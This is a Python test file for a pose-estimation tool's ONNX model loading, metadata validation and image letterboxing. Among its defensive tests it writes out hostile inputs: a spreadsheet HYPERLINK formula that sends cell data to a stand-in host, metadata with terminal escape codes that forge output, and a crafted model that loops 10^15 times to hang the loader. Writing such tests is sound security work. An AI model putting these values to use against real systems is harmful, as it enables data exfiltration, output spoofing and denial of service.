"""Model file metadata, provider choice and letterbox geometry."""

import hashlib
import json
import os
import re
import threading

import cv2
import numpy as np
import pytest

import core.session
from core.assets import SAMPLE_CLIP
from core.errors import WLitePoseError
from core.model_file import MAX_KEYPOINTS, MAX_LINKS, file_sha256, parse_metadata, read_model_info
from core.preprocess import check_input_size, letterbox, too_small
from core.session import PoseModel, best_providers


def test_metadata_is_read_from_the_file(model_path):
    info = read_model_info(model_path)
    assert info.keypoint_names[:3] == ("nose", "left_eye", "right_eye") and info.num_keypoints == 17
    assert (info.heatmap_stride, info.tag_stride, info.input_size, info.trained) == (2, 4, 256, False)
    assert info.flip_map[1] == 2 and len(info.sigmas) == 17 and len(info.sha256) == 64


def test_model_runs_with_the_output_contract(model_path):
    model = PoseModel(model_path, threads=1)
    assert model.provider == "CPUExecutionProvider"
    heatmaps, tags = model.run(np.zeros((1, 3, 192, 256), np.float32))
    assert heatmaps.shape == (17, 96, 128) and tags.shape == (17, 48, 64)


def test_a_model_whose_name_is_not_utf8_loads(model_path, tmp_path):
    """ONNX Runtime cannot take such a name (a file copied from an old archive): it was refused as 'not a readable
    ONNX model file (__init__(): incompatible constructor arguments...)'."""
    try:
        path = tmp_path / os.fsdecode(b"mod\xe8le.onnx")
        path.write_bytes(model_path.read_bytes())
    except (OSError, UnicodeError):
        pytest.skip("this file system takes only UTF-8 names")
    assert read_model_info(path).sha256 == read_model_info(model_path).sha256
    assert PoseModel(path, threads=1).provider == "CPUExecutionProvider"


def test_the_sha256_recorded_is_the_whole_files(tmp_path):
    """The sidecars' model_sha256 and a pickled estimator's check of a changed file hash every byte, not a first
    chunk: the bundled model is 5 MB."""
    data = np.random.default_rng(0).integers(0, 256, 3 << 20, np.uint8).tobytes()
    path = tmp_path / "m.onnx"
    path.write_bytes(data)
    assert file_sha256(path) == hashlib.sha256(data).hexdigest()


def test_the_sha256_recorded_is_of_the_model_loaded_when_the_file_is_replaced_meanwhile(
    model_path, tmp_path, monkeypatch
):
    """`export --out` (or cp) over a model while a run was loading it: the sidecar recorded the new file's hash
    beside the old file's results (4 runs in 10 with the file replaced every 20 ms)."""
    path = tmp_path / "m.onnx"
    path.write_bytes(model_path.read_bytes())
    loaded = hashlib.sha256(model_path.read_bytes()).hexdigest()
    import onnxruntime

    built = onnxruntime.InferenceSession

    def replaced_once_loaded(*args, **kwargs):
        session = built(*args, **kwargs)
        path.write_bytes(b"another model")  # as another process's export lands: after this run loaded the file
        return session

    monkeypatch.setattr(onnxruntime, "InferenceSession", replaced_once_loaded)
    assert PoseModel(path, threads=1).info.sha256 == loaded
    assert path.read_bytes() == b"another model"  # replaced as the model loaded


def test_a_thread_count_out_of_range_is_refused_not_taken_for_the_default(model_path):
    """0 reached ONNX Runtime as its default (one per core): a benchmark timed a count nobody asked for."""
    for threads in (0, -2):
        with pytest.raises(WLitePoseError, match=f"threads must be from 1 to 1024, not {threads}"):
            PoseModel(model_path, threads=threads)


def test_the_thread_count_asked_for_reaches_onnx_runtime(model_path):
    """--threads 2 ran on one thread had the count not reached the session's options."""
    assert PoseModel(model_path, threads=2)._session.get_session_options().intra_op_num_threads == 2


def test_accelerated_providers_come_first(monkeypatch):
    import onnxruntime

    monkeypatch.setattr(
        onnxruntime, "get_available_providers", lambda: ["CPUExecutionProvider", "CUDAExecutionProvider"]
    )
    assert best_providers() == ["CUDAExecutionProvider", "CPUExecutionProvider"]
    assert core.session.PREFERRED_PROVIDERS[0] == "CUDAExecutionProvider"


def test_inconsistent_metadata_is_refused(coco_metadata):
    parse_metadata(coco_metadata, "m.onnx")
    with pytest.raises(WLitePoseError, match="inconsistent"):
        parse_metadata({**coco_metadata, "oks_sigmas": "[0.1]"}, "m.onnx")
    for key in ("mean", "std"):  # two numbers: the blue channel was normalised by 0, every pose 180 px off
        with pytest.raises(WLitePoseError, match="inconsistent"):
            parse_metadata({**coco_metadata, key: "[0.4, 0.4]"}, "m.onnx")
    with pytest.raises(WLitePoseError, match="malformed"):
        parse_metadata({**coco_metadata, "skeleton": "not json"}, "m.onnx")
    # the refusal says what to do: a newer release's file needs that release, another format a new export
    with pytest.raises(WLitePoseError, match="format 9, but this version reads format 1: upgrade WLitePose"):
        parse_metadata({**coco_metadata, "wlitepose_format": "9"}, "m.onnx")
    with pytest.raises(WLitePoseError, match="format 0, .*: export it again from its checkpoint with `wlitepose"):
        parse_metadata({**coco_metadata, "wlitepose_format": "0"}, "m.onnx")
    with pytest.raises(WLitePoseError, match="format ², .*: export it again"):  # a digit to str, not to int()
        parse_metadata({**coco_metadata, "wlitepose_format": "²"}, "m.onnx")
    for key, value in (("heatmap_stride", "0"), ("input_size", "-5"), ("input_size", "100"), ("std", "[0.2, 0, 0.2]")):
        with pytest.raises(WLitePoseError, match="impossible metadata"):
            parse_metadata({**coco_metadata, key: value}, "m.onnx")
    with pytest.raises(WLitePoseError, match="impossible metadata"):  # a 4096 input ran, where --size stops at 2048
        parse_metadata({**coco_metadata, "input_size": "4096"}, "m.onnx")


def test_a_model_without_our_metadata_is_named_so_in_one_short_sentence(coco_metadata):
    """An ONNX file of another tool listed all 13 keys it lacked; a bad number quoted Python's int()."""
    with pytest.raises(WLitePoseError, match=r"^m.onnx is an ONNX model without WLitePose metadata; give a model made"):
        parse_metadata({"producer": "someone else"}, "m.onnx")
    with pytest.raises(WLitePoseError, match=r"malformed WLitePose metadata \(input_size is 'abc', not a whole number"):
        parse_metadata({**coco_metadata, "input_size": "abc"}, "m.onnx")


def test_metadata_that_would_be_read_as_something_else_is_refused(coco_metadata):
    """Each of these was accepted: an empty CSV, a traceback in the tracker, ambiguous columns, or a guess."""
    for key, value, message in (
        ("mean", "[NaN, 0.456, 0.406]", "mean is not a list of finite numbers"),
        ("oks_sigmas", "[" + "0.1, " * 16 + "Infinity]", "oks_sigmas is not a list of finite numbers"),
        ("keypoint_names", '"abcdefghijklmnopq"', "keypoint_names is not a list of names"),
        ("keypoint_names", json.dumps(["nose"] * 17), "it names the keypoint nose twice"),
        ("skeleton", "[[0, 1.7]]", "skeleton is not a list of pairs of whole numbers"),
        ("skeleton", "[[true, 0]]", "skeleton is not a list of pairs of whole numbers"),
        ("oks_sigmas", "[true" + ", 0.1" * 16 + "]", "oks_sigmas is not a list of finite numbers"),
        (
            "flip_map",
            json.dumps([0, 2, 1, 4, 3, 6, 5, 8, 7, 10, 9, 12, 11, 14, 13, 16, 15.5]),
            "flip_map is not a list of whole",
        ),
        ("trained", "True", "trained is neither true nor false"),
        # a crafted model's names became spreadsheet formulas in every CSV header, or split it over two lines
        (
            "keypoint_names",
            json.dumps(['=HYPERLINK("http://x/?"&B2,"nose")', *[f"j{i}" for i in range(16)]]),
            "the keypoint name '=HYPERLINK",
        ),
        ("keypoint_names", json.dumps(["nose\nx", *[f"j{i}" for i in range(16)]]), "the keypoint name 'nose\\\\nx'"),
        ("keypoint_names", json.dumps(["@SUM(1+1)", *[f"j{i}" for i in range(16)]]), "the keypoint name '@SUM"),
        ("oks_sigmas", "[" + "0.1, " * 16 + "1" + "0" * 400 + "]", "oks_sigmas is not a list of finite numbers"),
        ("skeleton", "[" * 100_000, "skeleton is not JSON"),
    ):
        with pytest.raises(WLitePoseError, match=f"malformed WLitePose metadata \\({message}"):
            parse_metadata({**coco_metadata, key: value}, "m.onnx")


# 320x241: its height scales to 192.8, one row past a multiple of 32 if truncated (an OpenCV error on every frame)
@pytest.mark.parametrize("size", [(768, 576), (300, 500), (1000, 90), (320, 241)])
def test_letterbox_keeps_aspect_and_maps_points_back(size):
    w, h = size
    image = np.zeros((h, w, 3), np.uint8)
    x, y = int(w * 0.63), int(h * 0.41)
    cv2.circle(image, (x, y), max(3, w // 60), (255, 255, 255), -1)
    mean, std = (0.485, 0.456, 0.406), (0.229, 0.224, 0.225)
    blob, box = letterbox(image, 256, mean, std)
    _, _, bh, bw = blob.shape
    assert bh % 32 == 0 and bw % 32 == 0 and max(bh, bw) == 256
    assert box.input_size == (bw, bh)
    assert abs((w * box.scale) / (h * box.scale) - w / h) < 1e-9
    weights = np.clip(blob[0, 0], 0, None)  # the white disc, normalised red channel
    weights = np.where(weights > weights.max() * 0.5, weights, 0)
    yy, xx = np.mgrid[0:bh, 0:bw]
    centre = np.array([(xx * weights).sum(), (yy * weights).sum()]) / weights.sum()
    assert np.abs(box.to_image(centre) - [x, y]).max() <= 1.0 / box.scale
    pixel = blob[0, :, 0, 0]  # black, normalised
    assert pixel == pytest.approx([-m / s for m, s in zip(mean, std, strict=True)], abs=1e-5)
    rw, rh = round(w * box.scale), round(h * box.scale)
    padding = np.concatenate([blob[0, :, rh:].reshape(3, -1), blob[0, :, :, rw:].reshape(3, -1)], axis=1)
    assert np.abs(padding).max(initial=0) < 0.02  # the mean colour, each channel normalised to 0 (uint8 rounding)


def test_letterbox_gives_the_network_rgb_not_bgr():
    """Without the channel swap the network got BGR: a red picture read as blue."""
    red = np.zeros((64, 64, 3), np.uint8)
    red[..., 2] = 255  # OpenCV's BGR order
    mean, std = (0.485, 0.456, 0.406), (0.229, 0.224, 0.225)
    blob, _ = letterbox(red, 64, mean, std)
    expected = [(1 - 0.485) / 0.229, (0 - 0.456) / 0.224, (0 - 0.406) / 0.225]  # normalised R, G, B
    np.testing.assert_allclose(blob[0].reshape(3, -1), np.repeat([expected], 64 * 64, 0).T, atol=1e-4)


def test_a_blob_in_a_full_hd_frame_maps_back_onto_itself():
    """A resized height one row short, or to_image without its half-pixel terms, moved joints 3-7 px off."""
    yy, xx = np.mgrid[0:1080, 0:1920]
    shade = np.round(255 * np.exp(-((xx - 1200.0) ** 2 + (yy - 1000.0) ** 2) / (2 * 30.0**2))).astype(np.uint8)
    frame = cv2.cvtColor(shade, cv2.COLOR_GRAY2BGR)
    truth = np.array([(xx * shade).sum(), (yy * shade).sum()]) / shade.sum()  # the blob as cut by the frame's edge
    blob, box = letterbox(frame, 256, (0, 0, 0), (1, 1, 1))
    small = blob[0, 0].astype(np.float64)
    sy, sx = np.mgrid[0 : small.shape[0], 0 : small.shape[1]]
    centre = np.array([(sx * small).sum(), (sy * small).sum()]) / small.sum()
    assert np.abs(box.to_image(centre) - truth).max() < 0.3


def test_a_frame_shrunk_for_the_network_is_averaged_over_each_area():
    """INTER_LINEAR on a 7.5-times shrink samples a pixel in seven: fine texture aliased into the input."""
    frame = np.random.default_rng(0).integers(0, 256, (1080, 1920, 3), np.uint8)
    blob, _ = letterbox(frame, 256, (0, 0, 0), (1, 1, 1))
    area = cv2.resize(frame, (256, 144), interpolation=cv2.INTER_AREA)[..., ::-1].transpose(2, 0, 1) / 255.0
    np.testing.assert_allclose(blob[0, :, :144], area, atol=1e-5)


def test_the_largest_documented_input_size_2048_is_allowed():
    """`--size 2048` (the help says "up to 2048") was refused with `>=` in the limit; the smallest, one stride, is
    allowed too."""
    check_input_size(2048)


def test_an_image_is_too_small_only_when_its_longer_side_is():
    """A 640x24 banner is 640 pixels wide: letterboxed, not refused as a thumbnail."""
    assert too_small((640, 24)) == "" and too_small((24, 640)) == ""
    assert "is 31x20 pixels, too small" in too_small((31, 20))
    check_input_size(32)
    with pytest.raises(WLitePoseError, match="multiple of 32 up to 2048, not 0"):
        check_input_size(0)
    with pytest.raises(WLitePoseError, match="up to 2048, not 2080"):
        check_input_size(2080)


def test_a_network_whose_outputs_contradict_its_metadata_is_refused_at_load(tmp_path, coco_metadata, painted_model):
    heatmaps, tags = np.zeros((17, 96, 128), np.float32), np.zeros((17, 48, 64), np.float32)
    PoseModel(painted_model(tmp_path / "ok.onnx", heatmaps, tags, coco_metadata))  # as the metadata says
    with pytest.raises(WLitePoseError, match=r"outputs heatmaps \(5, 128, 144\) .* not the 17 keypoint maps"):
        PoseModel(painted_model(tmp_path / "k5.onnx", heatmaps[:5], tags[:5], coco_metadata))
    with pytest.raises(WLitePoseError, match=r"and tags \(5, 64, 72\), not the 17"):  # IndexError on a frame
        PoseModel(painted_model(tmp_path / "tags5.onnx", heatmaps, tags[:5], coco_metadata))
    with pytest.raises(WLitePoseError, match="heatmaps a stride of 8, but on a 256x288 input they are 128x144 cells"):
        PoseModel(painted_model(tmp_path / "s8.onnx", heatmaps, tags, {**coco_metadata, "heatmap_stride": "8"}))
    # strides in the right ratio but wrong: every joint was placed twice as far from the corner, without a word
    doubled = {**coco_metadata, "heatmap_stride": "4", "tag_stride": "8"}
    with pytest.raises(WLitePoseError, match="heatmaps a stride of 4"):
        PoseModel(painted_model(tmp_path / "s48.onnx", heatmaps, tags, doubled))
    broken = heatmaps.copy()
    broken[3, 10, 10] = np.nan  # a NaN weight: every frame found nobody, and the run said nothing
    with pytest.raises(WLitePoseError, match="not finite"):
        PoseModel(painted_model(tmp_path / "nan.onnx", broken, tags, coco_metadata))
    broken = tags.copy()
    broken[0, 5, 5] = np.inf  # in the tags: loaded, then the first frame failed with the outputs already opened
    with pytest.raises(WLitePoseError, match="not finite"):
        PoseModel(painted_model(tmp_path / "inf_tags.onnx", heatmaps, broken, coco_metadata))


def test_a_network_without_a_tags_output_is_refused_at_load(tmp_path, coco_metadata, painted_model):
    """Checking for the heatmaps alone let it load, then a KeyError 'tags' traceback."""
    import onnx

    path = painted_model(
        tmp_path / "m.onnx", np.zeros((17, 96, 128), np.float32), np.zeros((17, 48, 64), np.float32), coco_metadata
    )
    proto = onnx.load(path)
    heatmaps_only = [output for output in proto.graph.output if output.name != "tags"]
    del proto.graph.output[:]
    proto.graph.output.extend(heatmaps_only)
    onnx.save(proto, path)
    with pytest.raises(
        WLitePoseError, match="does not have the WLitePose input 'image' and outputs 'heatmaps', 'tags'"
    ):
        PoseModel(path)


def test_a_network_with_an_output_more_than_ours_is_taken(tmp_path, coco_metadata, painted_model):
    import onnx

    path = painted_model(
        tmp_path / "m.onnx", np.zeros((17, 96, 128), np.float32), np.zeros((17, 48, 64), np.float32), coco_metadata
    )
    proto = onnx.load(path)
    proto.graph.node.append(onnx.helper.make_node("Identity", ["heatmaps"], ["features"]))
    proto.graph.output.append(onnx.helper.make_tensor_value_info("features", onnx.TensorProto.FLOAT, None))
    onnx.save(proto, path)
    assert PoseModel(path).run(np.zeros((1, 3, 64, 96), np.float32))[0].shape == (17, 32, 48)


def test_a_model_that_takes_one_image_size_only_is_refused_at_load(tmp_path, model_path):
    """torch.onnx.export without dynamic axes: it loaded, then failed on the first letterboxed frame (traceback)."""
    import onnx

    proto = onnx.load(str(model_path))
    for axis in (2, 3):
        proto.graph.input[0].type.tensor_type.shape.dim[axis].dim_value = 256
    onnx.save(proto, str(tmp_path / "fixed.onnx"))
    with pytest.raises(WLitePoseError, match="takes only 256x256 images; export it with a dynamic height and width"):
        PoseModel(tmp_path / "fixed.onnx")
    for axis in (2, 3):  # one side fixed: the blank check fitted it, and a frame of another shape failed
        proto = onnx.load(str(model_path))
        proto.graph.input[0].type.tensor_type.shape.dim[axis].dim_value = 256
        onnx.save(proto, str(tmp_path / "half.onnx"))
        with pytest.raises(WLitePoseError, match="takes only .*256.* images; export it with a dynamic height"):
            PoseModel(tmp_path / "half.onnx")


def test_a_model_of_another_input_is_refused_at_load_in_one_sentence(tmp_path, model_path):
    """A network for grey images is said to take the wrong input, not to fail on a blank one; a network fed bytes,
    which ONNX Runtime refuses, is said so without its error code."""
    import onnx
    from onnx import TensorProto

    proto = onnx.load(str(model_path))
    proto.graph.input[0].type.tensor_type.shape.dim[1].dim_value = 1
    onnx.save(proto, str(tmp_path / "grey.onnx"))
    with pytest.raises(
        WLitePoseError, match=r"grey.onnx's input 'image' is tensor\(float\) \[.*, 1, .*not float32 N x 3"
    ):
        PoseModel(tmp_path / "grey.onnx")
    proto = onnx.load(str(model_path))
    proto.graph.input[0].type.tensor_type.elem_type = TensorProto.UINT8
    onnx.save(proto, str(tmp_path / "bytes.onnx"))
    error = _error_of(PoseModel, tmp_path / "bytes.onnx")
    assert "bytes.onnx is not a readable ONNX model file (" in error and "ONNXRuntimeError" not in error, error


def test_a_network_that_fails_on_the_blank_input_is_said_once_without_onnx_runtimes_log(tmp_path, model_path, capfd):
    """Maps reshaped to one input size: refused at load in one sentence. ONNX Runtime's own error log said the
    failure a second time before it (in colour, with its C++ source file and line)."""
    import onnx
    from onnx import helper, numpy_helper

    proto = onnx.load(str(model_path))
    node = next(node for node in proto.graph.node if "heatmaps" in node.output)
    node.output[list(node.output).index("heatmaps")] = "heatmaps_any_size"
    proto.graph.initializer.append(numpy_helper.from_array(np.array([1, 17, 64, 64], np.int64), "one_size"))
    proto.graph.node.append(helper.make_node("Reshape", ["heatmaps_any_size", "one_size"], ["heatmaps"]))
    onnx.save(proto, str(tmp_path / "one_size.onnx"))
    capfd.readouterr()
    with pytest.raises(WLitePoseError, match=r"one_size.onnx fails on a 256x288 input \(.*Reshape"):
        PoseModel(tmp_path / "one_size.onnx")
    assert capfd.readouterr().err == ""


def test_a_network_that_never_finishes_is_refused_at_load_not_a_hang(tmp_path, model_path, monkeypatch):
    """A crafted model looping 10^15 times hung `track` (Ctrl-C and all) and left the app unable to close."""
    onnx = pytest.importorskip("onnx")
    from onnx import TensorProto, helper, numpy_helper

    import core.session

    model = onnx.load(str(model_path))
    graph = model.graph
    body = helper.make_graph(
        [helper.make_node("Identity", ["cond_in"], ["cond_out"]), helper.make_node("Add", ["x", "one"], ["x_out"])],
        "spin",
        [
            helper.make_tensor_value_info("i", TensorProto.INT64, []),
            helper.make_tensor_value_info("cond_in", TensorProto.BOOL, []),
            helper.make_tensor_value_info("x", TensorProto.FLOAT, [1]),
        ],
        [
            helper.make_tensor_value_info("cond_out", TensorProto.BOOL, []),
            helper.make_tensor_value_info("x_out", TensorProto.FLOAT, [1]),
        ],
        [numpy_helper.from_array(np.ones(1, np.float32), "one")],
    )
    graph.initializer.extend(
        [
            numpy_helper.from_array(np.array(10**15, np.int64), "spins"),
            numpy_helper.from_array(np.array(True), "go"),
            numpy_helper.from_array(np.zeros(1, np.float32), "x0"),
            numpy_helper.from_array(np.zeros(1, np.float32), "nought"),
        ]
    )
    last = next(node for node in graph.node if "heatmaps" in node.output)
    last.output[0] = "heatmaps_before"
    graph.node.extend(
        [
            helper.make_node("Loop", ["spins", "go", "x0"], ["x_end"], body=body),
            helper.make_node("Mul", ["x_end", "nought"], ["no_change"]),
            helper.make_node("Add", ["heatmaps_before", "no_change"], ["heatmaps"]),
        ]
    )
    slow = tmp_path / "spins.onnx"
    onnx.save(model, str(slow))
    monkeypatch.setattr(core.session, "LOAD_CHECK_S", 1.0)
    said = []
    loading = threading.Thread(target=lambda: said.append(_error_of(PoseModel, slow)), daemon=True)
    loading.start()
    loading.join(60)  # without the time limit the load would never end: a failure here, not a hung suite
    assert not loading.is_alive() and said, "the load did not end"
    assert re.search(r"spins.onnx did not finish one blank 256x288 input in 1 s$", said[0]), said[0]


def _error_of(call, *args) -> str:
    try:
        call(*args)
    except WLitePoseError as error:
        return str(error)
    return "no error"


@pytest.mark.parametrize(
    "break_maps, message",
    [
        (lambda h: h.__setitem__((0, 5, 5), np.nan), "not finite"),  # a few NaN cells: eval scored it higher
        (lambda h: h.__setitem__((0, 5, 5), np.inf), "not finite"),  # fp16 overflow: a traceback in decode
    ],
)
def test_outputs_that_break_only_on_real_frames_are_refused_on_every_frame(
    model_path, tmp_path, monkeypatch, capsys, break_maps, message
):
    """The blank input of the load check gives finite maps where a diverged or overflowing model breaks on real
    pictures: NaN joints made invalid JSON (exit 0) or a tracker traceback."""
    import main
    from core.session import PoseModel

    real = PoseModel._run

    def broken(self, blob, options=None):
        heatmaps, tags = real(self, blob, options)
        if blob.any():  # a real frame, not the load check's blank one
            heatmaps = heatmaps.copy()
            break_maps(heatmaps)
        return heatmaps, tags

    monkeypatch.setattr(PoseModel, "_run", broken)
    argv = ["track", str(SAMPLE_CLIP), "--model", str(model_path), "--max-frames", "3"]
    assert main.main([*argv, "--coco-json", str(tmp_path / "a.json")]) == 2
    err = capsys.readouterr().err
    assert message in err and "Traceback" not in err
    assert json.loads((tmp_path / "a.json").read_text()) == []  # valid JSON, nothing from the broken frame


def test_a_model_whose_maps_keep_one_size_whatever_the_input_is_refused_on_the_first_frame(model_path, monkeypatch):
    """A head of fixed size passes the load check at its own size; on another frame shape the joints were
    flattened onto the frame's edge."""
    from core.session import PoseModel

    model = PoseModel(model_path)
    real = PoseModel._run
    fixed = np.zeros((1, 3, 256, 288), np.float32)  # the load check's size
    monkeypatch.setattr(PoseModel, "_run", lambda self, blob, options=None: real(self, fixed))
    with pytest.raises(WLitePoseError, match="a stride of 2, but on a 256x192 input they are 128x144 cells"):
        model.run(np.ones((1, 3, 256, 192), np.float32))


def test_metadata_text_that_is_huge_has_control_codes_or_is_not_utf8_is_refused(tmp_path, coco_metadata, painted_model):
    """A shared model's variant of 10 MB was printed whole by `track` and froze the app 4-30 s on each repaint; one
    with escape codes cleared the terminal and forged a line of output; a dataset that is not UTF-8 stopped `track`
    with a UnicodeDecodeError traceback."""
    for key, value in (("variant", "x" * 10_000_000), ("dataset", "coco\x1b[2J\nwlitepose: wrote")):
        with pytest.raises(WLitePoseError, match=f"malformed WLitePose metadata \\({key} is not a line of printable"):
            parse_metadata({**coco_metadata, key: value}, "m.onnx")
    parse_metadata({**coco_metadata, "dataset": "Übungen 2024 (mein Ordner)"}, "m.onnx")  # plain text is text
    heatmaps, tags = np.zeros((17, 96, 128), np.float32), np.zeros((17, 48, 64), np.float32)
    placeholder = "P" * 12
    path = painted_model(tmp_path / "latin1.onnx", heatmaps, tags, {**coco_metadata, "dataset": placeholder})
    latin1 = b"\xff\xfeMus\xe9e\xc3\x28PPP"
    assert len(latin1) == len(placeholder)  # the same length: still valid protobuf
    path.write_bytes(path.read_bytes().replace(placeholder.encode(), latin1))
    for load in (PoseModel, read_model_info):
        with pytest.raises(
            WLitePoseError, match=r"latin1.onnx has malformed WLitePose metadata \(text that is not UTF-8"
        ):
            load(path)


def test_an_oks_sigma_above_one_is_refused(coco_metadata):
    """Sigmas of 1e300 loaded, then the tracker's similarity overflowed into NaN: a traceback on the first frame
    with people (the app: "Unexpected ValueError")."""
    for sigmas in ([1e300] * 17, [1.5] * 17):
        with pytest.raises(WLitePoseError, match="a sigma not above 0 and at most 1"):
            parse_metadata({**coco_metadata, "oks_sigmas": json.dumps(sigmas)}, "m.onnx")


def test_outputs_that_are_not_floating_point_are_refused_at_load(tmp_path, coco_metadata, painted_model):
    """int32 heatmaps ran and found nobody in any frame, bool tags grouped people at random: no word said."""
    import onnx
    from onnx import TensorProto, helper

    heatmaps, tags = np.zeros((17, 96, 128), np.float32), np.zeros((17, 48, 64), np.float32)
    for name, kind, shown in (("heatmaps", TensorProto.INT32, "int32"), ("tags", TensorProto.BOOL, "bool")):
        path = painted_model(tmp_path / f"{shown}.onnx", heatmaps, tags, coco_metadata)
        proto = onnx.load(str(path))
        node = next(node for node in proto.graph.node if name in node.output)
        node.output[0] = f"{name}_float"
        proto.graph.node.append(helper.make_node("Cast", [f"{name}_float"], [name], to=kind))
        next(output for output in proto.graph.output if output.name == name).type.tensor_type.elem_type = kind
        onnx.save(proto, str(path))
        with pytest.raises(WLitePoseError, match=f"output '{name}' is tensor\\({shown}\\), not floating point"):
            PoseModel(path)


def test_a_model_whose_weights_lie_in_another_file_reads_none_from_the_current_folder(
    tmp_path, model_path, monkeypatch
):
    """Loaded from bytes, a model naming external data ("weights.bin") had ONNX Runtime read that file from the
    current folder, wherever the model lay: a model handed over could pull any file there into its weights."""
    import onnx

    here = tmp_path / "here"
    here.mkdir()
    onnx.save(onnx.load(str(model_path)), str(here / "m.onnx"), save_as_external_data=True, location="weights.bin")
    (tmp_path / "elsewhere").mkdir()
    (here / "m.onnx").rename(tmp_path / "elsewhere" / "m.onnx")
    monkeypatch.chdir(here)
    with pytest.raises(WLitePoseError, match="m.onnx keeps its weights in other files, which are not read"):
        PoseModel(tmp_path / "elsewhere" / "m.onnx")


def test_a_refusal_by_onnx_runtime_gives_its_reason_not_its_cpp_function_signature():
    """A model from newer tools (IR version 11 on ONNX Runtime 1.19): the 200 characters shown were the source file
    and the C++ signature, cut before the reason."""
    from core.session import _runtime_message

    error = RuntimeError(
        "[ONNXRuntimeError] : 1 : FAIL : Load model from /m/x.onnx failed:/onnxruntime_src/onnxruntime/core/graph/"
        "model.cc:256 onnxruntime::Model::Model(onnx::ModelProto&&, const onnxruntime::PathString&, const "
        "onnxruntime::IOnnxRuntimeOpSchemaRegistryList*, const onnxruntime::logging::Logger&, const "
        "onnxruntime::ModelOptions&) Unsupported model IR version: 99, max supported IR version: 14\n"
    )
    assert _runtime_message(error) == "Unsupported model IR version: 99, max supported IR version: 14"
    error = RuntimeError(
        "Status Message: /onnxruntime_src/onnxruntime/core/framework/bfc_arena.cc:360 void* onnxruntime::BFCArena::"
        "AllocateRawInternal(size_t, bool, onnxruntime::Stream*) Failed to allocate memory for requested buffer"
    )
    assert _runtime_message(error) == "Status Message: Failed to allocate memory for requested buffer"


def test_outputs_of_half_or_double_precision_are_taken(tmp_path, coco_metadata, painted_model):
    """A model exported in float16 (a GPU's) or float64 is a network's floating point output: loaded and run, not
    refused with the int32 and bool ones."""
    import onnx
    from onnx import TensorProto, helper

    heatmaps, tags = np.zeros((17, 96, 128), np.float32), np.zeros((17, 48, 64), np.float32)
    heatmaps[3, 40, 50] = 0.75
    for kind, shown in ((TensorProto.FLOAT16, "float16"), (TensorProto.DOUBLE, "double")):
        path = painted_model(tmp_path / f"{shown}.onnx", heatmaps, tags, coco_metadata)
        proto = onnx.load(str(path))
        for name in ("heatmaps", "tags"):
            node = next(node for node in proto.graph.node if name in node.output)
            node.output[0] = f"{name}_float"
            proto.graph.node.append(helper.make_node("Cast", [f"{name}_float"], [name], to=kind))
            next(output for output in proto.graph.output if output.name == name).type.tensor_type.elem_type = kind
        onnx.save(proto, str(path))
        found, _ = PoseModel(path).run(np.zeros((1, 3, 192, 256), np.float32))
        assert found.shape == (17, 96, 128) and float(found[3, 40, 50]) == 0.75, shown


def test_a_model_path_with_a_tilde_is_read_from_the_users_home(model_path, tmp_path, monkeypatch):
    """`wlitepose gui --model=~/m.onnx` (a ~ no shell expands) said the file did not exist, where track loads it."""
    (tmp_path / "m.onnx").write_bytes(model_path.read_bytes())
    monkeypatch.setenv("HOME", str(tmp_path))
    assert read_model_info("~/m.onnx") == read_model_info(model_path)


def test_metadata_lacking_some_keys_names_them_not_all(coco_metadata):
    """A file of an older export lacking one key must hear which, not that it has no WLitePose metadata at all."""
    lacking = {key: value for key, value in coco_metadata.items() if key != "tag_stride"}
    with pytest.raises(WLitePoseError, match=r"is not a WLitePose model file: its metadata lacks tag_stride \("):
        parse_metadata(lacking, "m.onnx")


def test_more_keypoints_or_links_than_a_model_has_are_refused(coco_metadata):
    """Accepted, a skeleton of 10^6 links drew each frame in 11 s; 100,000 keypoint names, one of them twice, took
    188 s to be refused."""
    k = MAX_KEYPOINTS + 1
    many = {
        "keypoint_names": json.dumps([f"j{i}" for i in range(k)]),
        "flip_map": json.dumps(list(range(k))),
        "oks_sigmas": json.dumps([0.05] * k),
    }
    assert parse_metadata({**coco_metadata, "skeleton": json.dumps([[0, 1]] * MAX_LINKS)}, "m.onnx")
    for metadata, counts in (
        ({**coco_metadata, **many}, f"{k} keypoints and 19 skeleton links"),
        ({**coco_metadata, "skeleton": json.dumps([[0, 1]] * (MAX_LINKS + 1))}, f"17 keypoints and {MAX_LINKS + 1} "),
    ):
        with pytest.raises(WLitePoseError, match=f"impossible metadata: {counts}"):
            parse_metadata(metadata, "m.onnx")


def test_a_skeleton_link_to_one_past_the_last_keypoint_is_refused(coco_metadata):
    """Accepted, a link to keypoint 17 of 17 raised IndexError when the skeleton was drawn."""
    with pytest.raises(WLitePoseError, match="skeleton link to a keypoint that does not exist"):
        parse_metadata({**coco_metadata, "skeleton": "[[0, 17]]"}, "m.onnx")


def test_a_mean_and_std_on_the_0_to_255_scale_are_refused(coco_metadata):
    """mmpose's and torchvision's configs write them for pixels 0-255: read on the 0-1 scale, every frame became one
    flat colour and the model found nobody (bundled model: dev AP 0.034 -> 0, exit 0, no word)."""
    pixel_scale = {**coco_metadata, "mean": "[123.675, 116.28, 103.53]", "std": "[58.395, 57.12, 57.375]"}
    for meta in (
        pixel_scale,
        {**coco_metadata, "mean": "[123.675, 116.28, 103.53]"},
        {**pixel_scale, "mean": "[0.5, 0.5, 0.5]"},
    ):
        with pytest.raises(WLitePoseError, match="mean and std must be on the 0-1 scale of RGB pixels"):
            parse_metadata(meta, "m.onnx")
    parse_metadata({**coco_metadata, "mean": "[0, 0, 0]", "std": "[1, 1, 1]"}, "m.onnx")  # no normalisation at all


def test_an_oks_sigma_of_zero_is_refused(coco_metadata):
    """A joint of spread 0 matches nothing: the tracker gave a clip's people more IDs."""
    with pytest.raises(WLitePoseError, match="a sigma not above 0"):
        parse_metadata({**coco_metadata, "oks_sigmas": json.dumps([0.0] + [0.05] * 16)}, "m.onnx")
